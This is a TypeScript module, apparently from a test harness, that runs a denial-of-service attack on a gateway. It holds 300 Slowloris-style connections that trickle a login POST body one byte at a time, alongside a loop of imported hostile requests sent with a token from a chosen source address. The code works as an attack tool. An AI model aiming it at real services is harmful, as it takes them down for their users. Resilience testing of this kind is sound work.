import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { keepConnection } from '../kept-connection.ts';
import { HOSTILE_REQUESTS } from './bodies.ts';

/** Whom to attack, and with whose token. */
export interface Target {
  address: string;
  /** Where the attacker stands: limits count by address. */
  from: string;
  token: string;
  /** Bodies a second at most; the next one follows an answer at once where it is not told. */
  perSecond?: number;
}

/** More than the gateway has connections to a service. */
const SLOW_BODIES = 300;
const SECOND_MS = 1000;

// A process of its own, so that what the attack costs here is not taken for what it does there.
process.once('message', (target) => {
  for (let n = 0; n < SLOW_BODIES; n++) sendSlowly(target as Target);
  void sendBodies(target as Target);
});

/** One after the other, as one client would; tells how many were answered. */
async function sendBodies({ address, from, token, perSecond = Infinity }: Target): Promise<void> {
  const send = keepConnection(address, { maxSockets: 1, localAddress: from });
  const startedAt = performance.now();
  for (let n = 0; ; n++) {
    await sleep(Math.max(0, startedAt + (n * 1000) / perSecond - performance.now()));
    const { path, text, type, signedIn } = HOSTILE_REQUESTS[n % HOSTILE_REQUESTS.length]!;
    await send('POST', path, { text, type, ...(signedIn ? { token } : {}) });
    process.send?.(n + 1);
  }
}

/** A body that comes at a byte a second; a new one when it was refused. */
function sendSlowly(target: Target): void {
  const { hostname, port } = new URL(target.address);
  const head =
    'POST /api/v1/auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000\r\n\r\n';
  const socket = connect({ host: hostname, port: Number(port), localAddress: target.from }, () =>
    socket.write(head),
  );
  const timer = setInterval(() => socket.write('x'), SECOND_MS);
  socket.on('error', () => undefined).on('data', () => socket.destroy());
  socket.on('close', () => {
    clearInterval(timer);
    setTimeout(() => sendSlowly(target), SECOND_MS);
  });
}
